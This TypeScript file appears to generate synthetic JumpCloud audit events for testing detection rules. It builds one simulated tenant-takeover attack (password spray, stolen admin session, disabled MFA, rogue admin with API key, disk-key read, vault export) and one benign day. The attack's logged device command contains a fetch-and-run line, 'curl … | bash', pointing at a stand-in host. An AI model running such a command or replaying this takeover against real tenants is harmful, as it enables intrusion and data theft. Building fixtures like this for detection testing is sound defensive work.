import { Random } from "./random.ts";
import type { GeneratedEvent, Service } from "./tenant.ts";

/** What a scenario is generated for. */
export interface ScenarioOptions {
  /** Organization id stamped on every event. */
  organization: string;
  /** Epoch ms: the scenario ends before this instant (the last 2 minutes stay empty). */
  end: number;
  /** Same seed, same events (default 1). */
  seed?: number;
}

type Event = Record<string, unknown>;
type Precision = "ms" | "ns" | "s";

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

// Addresses MaxMind's test databases know, so GeoIP gives the documents a country and an AS.
const IP = {
  gbLondon: ["81.2.69.142", "81.2.69.143", "81.2.69.144", "81.2.69.145"],
  gbBoxford: ["2.125.160.216", "2.125.160.217", "2.125.160.218", "2.125.160.219", "2.125.160.220"],
  /** AS209 (US). */
  us: ["216.160.83.56", "216.160.83.57", "216.160.83.58", "216.160.83.59", "216.160.83.60", "216.160.83.61"],
  /** AS29518 (SE). */
  se: ["89.160.20.112", "89.160.20.113", "89.160.20.114", "89.160.20.115", "89.160.20.116", "89.160.20.117"],
  /** CN: the attacker's addresses. */
  attacker: "175.16.199.1",
  attackerLdap: "175.16.199.7",
  /** AS35908 (BT): the stolen administrator session. */
  attackerAdmin: "67.43.156.1",
};

// JumpCloud's own `geoip` block, as it sends it, by address prefix (the ECS geo comes from the
// mapper's GeoIP).
const JUMPCLOUD_GEO: ReadonlyArray<{ prefixes: readonly string[]; geo: Event }> = [
  {
    prefixes: ["81.2.69.", "2.125.160."],
    geo: {
      country_code: "GB",
      continent_code: "EU",
      region_code: "ENG",
      region_name: "England",
      timezone: "Europe/London",
    },
  },
  {
    prefixes: ["216.160.83."],
    geo: {
      country_code: "US",
      continent_code: "NA",
      region_code: "WA",
      region_name: "Washington",
      timezone: "America/Los_Angeles",
    },
  },
  {
    prefixes: ["89.160.20."],
    geo: {
      country_code: "SE",
      continent_code: "EU",
      region_code: "E",
      region_name: "Östergötland County",
      timezone: "Europe/Stockholm",
    },
  },
  {
    prefixes: ["175.16.199."],
    geo: {
      country_code: "CN",
      continent_code: "AS",
      region_code: "22",
      region_name: "Jilin Sheng",
      timezone: "Asia/Harbin",
    },
  },
  { prefixes: ["67.43.156."], geo: { country_code: "BT", continent_code: "AS", timezone: "Asia/Thimphu" } },
];

function jumpcloudGeo(ip: string): Event | undefined {
  const found = JUMPCLOUD_GEO.find(({ prefixes }) => prefixes.some((p) => ip.startsWith(p)));
  return found && { ...found.geo };
}

const CHROME_MAC = {
  device: "Mac",
  major: "122",
  minor: "0",
  name: "Chrome",
  os: "Mac OS X",
  os_full: "Mac OS X 10.15.7",
  os_major: "10",
  os_minor: "15",
  os_name: "Mac OS X",
  os_patch: "7",
  os_version: "10.15.7",
  patch: "0",
  version: "122.0.0.0",
};
const FIREFOX_WIN = {
  device: "Other",
  major: "123",
  minor: "0",
  name: "Firefox",
  os: "Windows",
  os_full: "Windows 10",
  os_major: "10",
  os_name: "Windows",
  os_version: "10",
  version: "123.0",
};
const CURL = {
  device: "Other",
  major: "7",
  minor: "68",
  name: "curl",
  os: "Other",
  os_full: "Other",
  os_name: "Other",
  patch: "0",
  version: "7.68.0",
};
const PYTHON = {
  device: "Other",
  major: "2",
  minor: "31",
  name: "Python Requests",
  os: "Other",
  os_full: "Other",
  os_name: "Other",
  patch: "1",
  version: "2.31.1",
};

const DOMAIN = "example.com";
const FIRST = ["a", "b", "c", "d", "e", "f", "g", "h", "j", "k", "l", "m", "n", "o", "p", "r", "s", "t"];
const LAST = [
  "garcia",
  "khan",
  "wei",
  "okafor",
  "nakamura",
  "smith",
  "silva",
  "novak",
  "tanaka",
  "rossi",
  "muller",
  "dubois",
  "jensen",
  "kowalski",
  "haddad",
  "larsen",
  "moreau",
  "costa",
  "ivanova",
  "oconnor",
];

interface Person {
  username: string;
  email: string;
  id: string;
  /** The addresses the person always uses (one country). */
  home: readonly string[];
  ua: Event;
}

interface Admin {
  email: string;
  id: string;
  ip: string;
}

/** Makes raw events shaped as JumpCloud's API returns them (see tenant.ts and the real samples). */
class Maker {
  readonly events: GeneratedEvent[] = [];

  constructor(
    readonly r: Random,
    private readonly organization: string,
  ) {}

  objectId(at: number): string {
    return (
      Math.floor(at / 1000)
        .toString(16)
        .padStart(8, "0") + this.r.hex(16)
    );
  }

  private timestamp(at: number, precision: Precision): string {
    const iso = new Date(at).toISOString();
    if (precision === "s") return `${iso.slice(0, 19)}Z`;
    if (precision === "ns")
      return `${iso.slice(0, 23)}${this.r.int(0, 999_999).toString().padStart(6, "0")}Z`;
    return iso;
  }

  /** Adds an event; RADIUS carries whole seconds, so its instant is what its text says. */
  add(service: Service, eventType: string, at: number, fields: Event, precision: Precision = "ms"): Event {
    const when = precision === "s" ? Math.floor(at / 1000) * 1000 : Math.floor(at);
    const event: Event = {
      "@version": "1",
      id: this.objectId(when),
      event_type: eventType,
      service,
      organization: this.organization,
      timestamp: this.timestamp(when, precision),
      ...fields,
    };
    this.events.push({ at: when, service, event });
    return event;
  }

  private located(ip: string): Event {
    const geoip = jumpcloudGeo(ip);
    return geoip ? { client_ip: ip, geoip } : { client_ip: ip };
  }

  /** A directory event done by an administrator (in the Admin Portal unless `apiKey`). */
  adminAction(
    eventType: string,
    at: number,
    admin: Admin,
    fields: Event,
    options: { apiKey?: boolean; ip?: string } = {},
  ) {
    return this.add("directory", eventType, at, {
      initiated_by: { id: admin.id, type: "admin", email: admin.email },
      ...this.located(options.ip ?? admin.ip),
      useragent: options.apiKey ? PYTHON : CHROME_MAC,
      auth_method: options.apiKey ? "api key" : "session",
      provider: null,
      success: true,
      ...fields,
    });
  }

  userLogin(at: number, person: Person, ip: string, success: boolean, ua: Event = person.ua) {
    return this.add("directory", "user_login_attempt", at, {
      initiated_by: { id: person.id, type: "user", username: person.username },
      ...this.located(ip),
      useragent: ua,
      provider: null,
      mfa: success,
      mfa_meta: { type: success ? "totp" : "none" },
      success,
      ...(success ? {} : { error_message: "invalid username or password" }),
    });
  }

  sso(at: number, person: Person, ip: string, ok: boolean, app: readonly [string, string]) {
    return this.add(
      "sso",
      "sso_auth",
      at,
      {
        initiated_by: { id: person.id, type: "user", username: person.username },
        ...this.located(ip),
        useragent: person.ua,
        sso_token_success: ok,
        error_message: ok ? "" : "invalid credentials",
        auth_context: {
          auth_methods: { password: { success: ok } },
          policies_applied: [
            { id: "", name: "Global Policy", metadata: { action: "ALLOW", resource_type: "APPLICATION" } },
          ],
        },
        mfa: false,
        application: {
          id: this.r.hex(24),
          name: app[0],
          display_label: app[1],
          sso_type: "saml",
          sso_url: `https://sso.jumpcloud.com/saml2/${app[0]}`,
        },
        provider: "",
        idp_initiated: this.r.chance(0.3),
      },
      "ns",
    );
  }

  adminLogin(at: number, admin: Admin, ip: string, success: boolean) {
    return this.add("directory", "admin_login_attempt", at, {
      initiated_by: { id: admin.id, type: "admin", email: admin.email },
      ...this.located(ip),
      useragent: CHROME_MAC,
      provider: null,
      mfa: true,
      success,
    });
  }

  ldapBind(at: number, username: string, ip: string, success: boolean) {
    return this.add("ldap", "ldap_bind", at, {
      client_ip: ip,
      connection_id: Buffer.from(this.r.hex(16)).toString("base64"),
      operation_number: 0,
      dn: `uid=${username},ou=Users,o=${this.organization},dc=jumpcloud,dc=com`,
      auth_method: "simple",
      mech: "simple",
      start_tls: false,
      tls_established: true,
      username,
      initiated_by: { type: "user", username },
      success,
      ...(success ? {} : { error_code: 49, error_message: "invalid credentials" }),
    });
  }

  ldapSearch(at: number, username: string, ip: string) {
    return this.add("ldap", "ldap_search", at, {
      client_ip: ip,
      connection_id: Buffer.from(this.r.hex(16)).toString("base64"),
      operation_number: this.r.int(1, 12),
      base: `ou=Users,o=${this.organization},dc=jumpcloud,dc=com`,
      scope: 2,
      deref: 0,
      filter: "(&(objectClass=inetOrgPerson)(uid=*))",
      attr: "uid mail memberOf",
      number_of_results: this.r.int(1, 60),
      username,
      initiated_by: { type: "user", username },
      success: true,
    });
  }

  radius(at: number, username: string, ip: string, success: boolean) {
    const event = this.add(
      "radius",
      "radius_auth_attempt",
      at,
      {
        initiated_by: { type: "user", username },
        auth_type: "eap",
        nas_mfa_state: "DISABLED",
        eap_type: "MSCHAPv2",
        outer: { eap_type: "PEAP", username },
        mfa: false,
        auth_meta: { auth_idp: "JUMPCLOUD", userid_type: "USERNAME", user_password_enabled: true },
        success,
        ...this.located(ip),
        username,
        ...(success ? {} : { error_message: "mschap: MS-CHAP2-Response is incorrect" }),
      },
      "s",
    );
    event.id = this.r.guid();
    return event;
  }

  systemsLogin(at: number, person: Person, host: string, success: boolean) {
    const source = `10.20.${this.r.int(0, 3)}.${this.r.int(2, 250)}`;
    return this.add("systems", "login_attempt", at, {
      system: { id: this.r.hex(24), hostname: host, displayName: host },
      system_timestamp: new Date(at).toISOString().replace("Z", "+00:00"),
      message: `User ${person.username} logged in from ${source}, process name: loginwindow`,
      client_ip: person.home[0],
      src_ip: source,
      username: person.username,
      process_name: "loginwindow",
      success,
      initiated_by: { type: "systemuser", username: person.username },
    });
  }

  mdmResult(at: number) {
    return this.add("mdm", "mdm_command_result", at, {
      mdm_type: "apple",
      request_type: "DeviceInformation",
      mdm_device_id: this.r.hex(24),
      command: { request_type: "DeviceInformation", queries: ["DeviceName", "OSVersion"] },
      command_uuid: `${this.r.hex(8)}-${this.r.hex(4)}-${this.r.hex(4)}-${this.r.hex(4)}-${this.r.hex(12)}`,
      status: "Acknowledged",
      success: true,
      query_responses: {
        device_name: `mac-${this.r.int(1, 60)}`,
        os_version: "14.4",
        model_name: "MacBook Pro",
        is_supervised: true,
      },
    });
  }

  software(at: number) {
    const [name, from, to] = this.r.pick([
      ["Google Chrome", "122.0", "123.0"],
      ["Slack", "4.36", "4.37"],
      ["Zoom", "5.17", "5.17.5"],
    ] as const);
    const kind = this.r.pick(["software_add", "software_change", "software_change"]);
    return this.add("software", kind, at, {
      provider: this.r.hex(24),
      system: { id: this.r.hex(24), type: "system" },
      application: { name, version: to, publisher: name.split(" ")[0], package_manager: "APPLE_VPP" },
      changes: kind === "software_add" ? [{ field: "version", to }] : [{ field: "version", from, to }],
      app_management_source: "JumpCloud App Catalog",
    });
  }

  passwordManager(eventType: string, at: number, person: Person, ip: string) {
    const event = this.add("password_manager", eventType, at, {
      initiated_by: { id: person.id, type: "user", email: person.email },
      ...this.located(ip),
      success: true,
    });
    event.id = `${this.r.hex(8)}-${this.r.hex(4)}-4${this.r.hex(3)}-a${this.r.hex(3)}-${this.r.hex(12)}`;
    return event;
  }

  /** Events in time order (ties keep the order they were made in). */
  sorted(): GeneratedEvent[] {
    return this.events
      .map((e, i) => [e, i] as const)
      .sort((a, b) => a[0].at - b[0].at || a[1] - b[1])
      .map(([e]) => e);
  }
}

function idOf(r: Random): string {
  return `6${r.hex(23)}`;
}

const ADMIN_IT = (r: Random): Admin => ({ email: `it.admin@${DOMAIN}`, id: idOf(r), ip: "216.160.83.56" });
const ADMIN_HELPDESK = (r: Random): Admin => ({
  email: `helpdesk@${DOMAIN}`,
  id: idOf(r),
  ip: "89.160.20.113",
});
const PROVISIONING = (r: Random): Admin => ({
  email: `provisioning@${DOMAIN}`,
  id: idOf(r),
  ip: "216.160.83.60",
});

function person(r: Random, username: string, home: readonly string[]): Person {
  return {
    username,
    email: `${username}@${DOMAIN}`,
    id: idOf(r),
    home,
    ua: r.chance(0.6) ? CHROME_MAC : FIREFOX_WIN,
  };
}

function resourceUser(p: Person): Event {
  return { id: p.id, type: "user", username: p.username };
}

const APPS = [
  ["slack", "Slack"],
  ["google", "Google Workspace"],
  ["aws", "AWS"],
  ["salesforce", "Salesforce"],
  ["github", "GitHub"],
] as const;

/**
 * An attack on a JumpCloud tenant that makes every rule of rules/ alert at least once: a password
 * spray, a brute force that succeeds from a new country, LDAP password guessing, a stolen
 * administrator session (new network provider) that weakens MFA, creates an administrator with an
 * API key, uses that key, relaxes conditional access and IP lists, deletes device policies, adds an
 * SSO application, changes a directory integration, reactivates a dormant account, runs a command on
 * devices, reads a disk encryption key, and a vault export by the compromised user.
 *
 * The attack lies in the 7 minutes before the last 2 before `end` (which stay empty), so a rule run
 * within 5 minutes of its collection sees it whole, whatever time it reads. The new_terms rules
 * need to have seen the victims' usual behaviour, so the scenario also holds 13 days of history
 * before the attack (the victim's logins from the United Kingdom, the administrator's logins from
 * AS209, the provisioning account's daily API calls): the events span up to 14 days before `end`.
 * Timestamps carry each service's precision (milliseconds; nanoseconds for SSO; seconds for RADIUS).
 */
export function attackScenario(options: ScenarioOptions): GeneratedEvent[] {
  const r = new Random(options.seed ?? 1);
  const m = new Maker(r, options.organization);
  const end = options.end;
  const jitter = () => r.int(0, 20_000);
  const itAdmin = ADMIN_IT(r);
  const provisioning = PROVISIONING(r);
  // Not one of the simulated tenant's own users (npm start --attack plays both): its history is this.
  const victim = person(r, "e.moreau", ["81.2.69.144"]);
  const rogue: Admin = { email: `backup-admin@${DOMAIN}`, id: idOf(r), ip: IP.attacker };
  const stolen: Admin = { ...itAdmin, ip: IP.attackerAdmin };
  const dormant = person(r, "former.employee", ["81.2.69.145"]);
  const sprayed = LAST.slice(0, 12).map((last, i) =>
    person(r, `${FIRST[i]}.${last}`, [r.pick(IP.gbBoxford)]),
  );

  // History: what the new_terms rules learn as usual (13 days, inside their 14-day window).
  for (let d = 13; d >= 1; d--) {
    const day = end - d * DAY;
    m.userLogin(day - 9 * HOUR + jitter(), victim, victim.home[0] as string, true);
    m.sso(day - 8 * HOUR + jitter(), victim, victim.home[0] as string, true, APPS[0]);
    m.adminLogin(day - 7 * HOUR + jitter(), itAdmin, itAdmin.ip, true);
    m.adminAction(
      "user_update",
      day - 20 * HOUR + jitter(),
      provisioning,
      {
        resource: resourceUser(victim),
        changes: [{ field: "attributes", to: [{ name: "costCenter", value: "210" }] }],
      },
      { apiKey: true },
    );
  }

  // The attack's actions, `seconds` before end (a few seconds of jitter), the administrator's 8 s apart.
  const at = (seconds: number) => end - seconds * 1_000 + r.int(0, 3_000);
  let step = 290;
  const next = () => {
    const seconds = step;
    step -= 8;
    return at(seconds);
  };

  // Password spray: 12 users, one failure each, from one address.
  // All of it within the 7 minutes before the last 2: a windowed rule (threshold, new terms,
  // sequence: the event's own time) run within 5 minutes of the collection still sees it whole.
  for (const [i, p] of sprayed.entries())
    m.userLogin(end - 7 * MINUTE + i * 10_000, p, IP.attacker, false, CURL);
  // Brute force on the victim, then a success from China (failures then success; burst; new country).
  for (let i = 0; i < 12; i++) m.userLogin(end - 300_000 + i * 8_000, victim, IP.attacker, false, CURL);
  m.userLogin(end - 200_000, { ...victim, ua: FIREFOX_WIN }, IP.attacker, true);
  // LDAP password guessing against another user.
  for (let i = 0; i < 25; i++) m.ldapBind(end - 330_000 + i * 4_000, "li.wei", IP.attackerLdap, false);
  // The stolen administrator session, from a network provider the administrator never used.
  m.adminLogin(at(300), stolen, stolen.ip, true);
  m.adminAction("organization_update", next(), stolen, {
    resource: { id: options.organization, type: "organization", displayName: "Example Corp" },
    changes: [{ field: "settings.requireAdminMFA", from: true, to: false }],
  });
  m.adminAction("admin_totp_disable", next(), stolen, {
    resource: { id: itAdmin.id, type: "admin", email: itAdmin.email },
  });
  m.adminAction("totp_delete_enrollment", next(), stolen, { resource: resourceUser(victim) });
  m.adminAction("admin_create", next(), stolen, {
    resource: { id: rogue.id, type: "admin", email: rogue.email },
    changes: [
      { field: "email", to: rogue.email },
      { field: "roleName", to: "Administrator with Billing" },
      { field: "enableMultiFactor", to: false },
    ],
  });
  m.adminAction("user_admin_granted", next(), stolen, {
    resource: resourceUser(victim),
    changes: [
      {
        field: "sudo",
        from: { enabled: false, withoutPassword: false },
        to: { enabled: true, withoutPassword: true },
      },
    ],
  });
  m.adminAction("admin_update", next(), stolen, {
    resource: { id: rogue.id, type: "admin", email: rogue.email },
    changes: [{ field: "apiKeyAllowed", from: false, to: true }],
  });
  m.adminAction("admin_update", next(), rogue, {
    resource: { id: rogue.id, type: "admin", email: rogue.email },
    changes: [{ field: "apiKeyCreatedAt", to: new Date(end - 240_000).toISOString() }],
  });
  // The new key's first calls, from the attacker's address.
  m.adminAction(
    "user_update",
    next(),
    rogue,
    {
      resource: resourceUser(dormant),
      changes: [{ field: "email", from: dormant.email, to: "former.employee@example.net" }],
    },
    { apiKey: true },
  );
  m.adminAction("authnpolicy_update", next(), stolen, {
    resource: { id: r.hex(24), type: "authnpolicy", name: "Require MFA outside the office" },
    changes: [{ field: "effect.action", from: "allow_mfa", to: "allow" }],
  });
  m.adminAction("iplist_update", next(), stolen, {
    resource: { id: r.hex(24), type: "iplist", name: "Trusted networks" },
    changes: [{ field: "ips", from: ["81.2.69.142/31"], to: ["81.2.69.142/31", "175.16.199.0/24"] }],
  });
  m.adminAction("policy_delete", next(), stolen, {
    resource: {
      id: r.hex(24),
      type: "policy",
      policy_name: "FileVault 2",
      policy_template_name: "filevault_2_darwin",
    },
  });
  m.adminAction("group_delete", next(), stolen, {
    resource: { id: r.hex(24), type: "system_group", name: "Encrypted Macs" },
  });
  m.adminAction("application_create", next(), stolen, {
    resource: { id: r.hex(24), type: "application", name: "custom-saml-app", displayLabel: "Payroll" },
    changes: [
      { field: "displayLabel", to: "Payroll" },
      { field: "config.acsUrl.value", to: "https://payroll-sso.example.net/saml/acs" },
    ],
  });
  m.adminAction("o365_directory_update", next(), stolen, {
    resource: { id: r.hex(24), type: "office_365", name: "example.com" },
    changes: [{ field: "defaultDomain", from: "example.com", to: "example-corp.net" }],
  });
  m.adminAction("user_unsuspended", next(), stolen, {
    resource: resourceUser(dormant),
    changes: [
      { field: "state", from: "SUSPENDED", to: "ACTIVATED" },
      { field: "suspended", from: true, to: false },
    ],
  });
  const command = { id: r.hex(24), type: "command", name: "maintenance" };
  m.adminAction("command_create", next(), stolen, {
    resource: command,
    changes: [
      { field: "command", to: "curl -fsSL https://cdn.example-updates.net/m.sh | bash" },
      { field: "commandType", to: "mac" },
      { field: "user", to: "000000000000000000000000" },
    ],
  });
  m.adminAction("command_run", next(), stolen, { resource: command });
  const mac = { id: r.hex(24), hostname: "EMOREAU-MBP", displayName: "EMOREAU-MBP" };
  m.add("systems", "system_fde_key_decrypt", next(), {
    initiated_by: { id: stolen.id, type: "admin", email: stolen.email },
    system: mac,
    client_ip: stolen.ip,
    geoip: jumpcloudGeo(stolen.ip),
    success: true,
  });
  m.passwordManager("passwordmanager_items_export", next(), victim, IP.attacker);
  return m.sorted();
}

/**
 * An ordinary day of a tenant of 40 users (about 3 000 events in the 24 hours before `end`, the
 * last 2 minutes empty): User Portal and SSO logins, mostly successful, from each user's usual
 * addresses, some single failures and typos followed by a success; a few users created, group
 * changes, MDM results, software installs, Password Manager use, a provisioning account calling the
 * API with its key every day from the same address, LDAP and RADIUS authentications with rare
 * failures, device logins. It is preceded by 13 days of the same users' logins (the history the
 * new_terms rules compare with), so the events span 14 days before `end`. No rule of rules/ should
 * alert on it.
 */
export function ordinaryDayScenario(options: ScenarioOptions): GeneratedEvent[] {
  const r = new Random(options.seed ?? 1);
  const m = new Maker(r, options.organization);
  const end = options.end;
  const itAdmin = ADMIN_IT(r);
  const helpdesk = ADMIN_HELPDESK(r);
  const provisioning = PROVISIONING(r);
  const countries = [[...IP.gbLondon.slice(0, 2), ...IP.gbBoxford], IP.us, IP.se];
  const people: Person[] = [];
  for (let i = 0; people.length < 40; i++) {
    const username = `${FIRST[i % FIRST.length]}.${LAST[(i * 7) % LAST.length]}${i >= LAST.length ? i : ""}`;
    const country = countries[i % 3] as string[];
    people.push(person(r, username, [r.pick(country), r.pick(country)]));
  }
  const office = "81.2.69.142";
  const ldapServer = "89.160.20.117";
  const dayStart = end - DAY;
  const dayEnd = end - 2 * MINUTE;
  const during = (from: number, to: number) => from + Math.floor(r.next() * (to - from));
  const workHour = (day: number) => day + 7 * HOUR + Math.floor(r.next() * 10 * HOUR);

  // 13 days of history: each user's logins from their usual addresses, admins, the provisioning key.
  for (let d = 13; d >= 1; d--) {
    const day = dayStart - d * DAY;
    for (const p of people) {
      m.userLogin(workHour(day), p, r.pick(p.home), true);
      m.sso(workHour(day), p, r.pick(p.home), true, r.pick(APPS));
    }
    m.adminLogin(workHour(day), itAdmin, itAdmin.ip, true);
    m.adminLogin(workHour(day), helpdesk, helpdesk.ip, true);
    m.adminAction(
      "user_update",
      day + 2 * HOUR + r.int(0, 60_000),
      provisioning,
      {
        resource: resourceUser(r.pick(people)),
        changes: [{ field: "attributes", to: [{ name: "costCenter", value: String(r.int(100, 400)) }] }],
      },
      { apiKey: true },
    );
  }

  // The day.
  const time = () => during(dayStart, dayEnd);
  for (const p of people) {
    for (let i = r.int(2, 4); i > 0; i--) {
      const at = workHour(dayStart);
      const ip = r.pick(p.home);
      if (r.chance(0.08)) {
        // A typo, then the right password.
        m.userLogin(at, p, ip, false);
        m.userLogin(at + r.int(10_000, 40_000), p, ip, true);
      } else m.userLogin(at, p, ip, !r.chance(0.02));
    }
    for (let i = r.int(10, 14); i > 0; i--)
      m.sso(workHour(dayStart), p, r.pick(p.home), !r.chance(0.02), r.pick(APPS));
    for (let i = r.int(8, 12); i > 0; i--) m.radius(workHour(dayStart), p.username, office, !r.chance(0.02));
    for (let i = r.int(7, 11); i > 0; i--)
      m.systemsLogin(workHour(dayStart), p, `${p.username.toUpperCase()}-MBP`, !r.chance(0.03));
    if (r.chance(0.5))
      m.passwordManager(
        r.pick(["passwordmanager_item_add", "passwordmanager_item_reveal", "passwordmanager_item_copy"]),
        workHour(dayStart),
        p,
        r.pick(p.home),
      );
  }
  // Admins and directory changes.
  for (const admin of [itAdmin, helpdesk])
    for (let i = 0; i < 2; i++) m.adminLogin(workHour(dayStart), admin, admin.ip, true);
  for (let i = 0; i < 3; i++) {
    const username = `new.hire${i + 1}`;
    m.adminAction("user_create", workHour(dayStart), itAdmin, {
      resource: { id: idOf(r), type: "user", username },
      changes: [
        { field: "username", to: username },
        { field: "email", to: `${username}@${DOMAIN}` },
        { field: "state", to: "STAGED" },
      ],
    });
  }
  for (let i = 0; i < 8; i++) {
    m.adminAction("group_update", workHour(dayStart), r.pick([itAdmin, helpdesk]), {
      resource: {
        id: r.hex(24),
        type: "user_group",
        name: r.pick(["Engineering", "Sales", "Finance", "All Staff"]),
      },
      changes: [{ field: "description", from: "", to: "Updated membership rules" }],
    });
  }
  for (let i = 0; i < 12; i++) {
    const p = r.pick(people);
    m.adminAction("association_change", workHour(dayStart), r.pick([itAdmin, helpdesk]), {
      association: {
        op: r.pick(["add", "remove"]),
        action_source: "manual",
        connection: {
          from: {
            name: r.pick(["Engineering", "Sales", "Finance"]),
            type: "user_group",
            object_id: r.hex(24),
          },
          to: { name: p.username, type: "user", object_id: p.id },
        },
      },
    });
  }
  for (let i = 0; i < 15; i++) {
    m.adminAction("user_update", workHour(dayStart), helpdesk, {
      resource: resourceUser(r.pick(people)),
      changes: [{ field: r.pick(["jobTitle", "department", "location"]), from: "", to: "Updated" }],
    });
  }
  for (let i = 0; i < 5; i++) {
    m.adminAction(
      "user_update",
      dayStart + 2 * HOUR + i * 1500,
      provisioning,
      {
        resource: resourceUser(r.pick(people)),
        changes: [{ field: "attributes", to: [{ name: "costCenter", value: String(r.int(100, 400)) }] }],
      },
      { apiKey: true },
    );
  }
  // LDAP: an application server binding and searching with a service account, and users.
  for (let i = 0; i < 320; i++) {
    const at = time();
    m.ldapBind(at, "svc-ldap", ldapServer, !r.chance(0.01));
    m.ldapSearch(at + 150, "svc-ldap", ldapServer);
  }
  for (let i = 0; i < 80; i++) {
    const p = r.pick(people);
    m.ldapBind(workHour(dayStart), p.username, ldapServer, !r.chance(0.03));
  }
  for (let i = 0; i < 520; i++) m.mdmResult(time());
  for (let i = 0; i < 300; i++) m.software(time());
  return m.sorted().filter((e) => e.at < dayEnd);
}
